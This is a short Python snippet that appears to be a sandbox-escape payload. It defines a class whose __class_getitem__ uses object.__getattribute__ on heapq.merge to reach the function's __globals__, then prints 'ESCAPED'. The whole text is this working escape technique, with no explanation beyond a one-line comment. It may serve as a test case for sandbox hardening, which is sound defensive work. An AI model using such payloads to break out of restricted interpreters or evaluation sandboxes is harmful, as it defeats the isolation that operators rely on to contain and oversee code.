# __class_getitem__ is the accessor.
import heapq
class C:
    __class_getitem__ = classmethod(lambda cls, n: object.__getattribute__(heapq.merge, n))
print("ESCAPED", C["__globals__"])
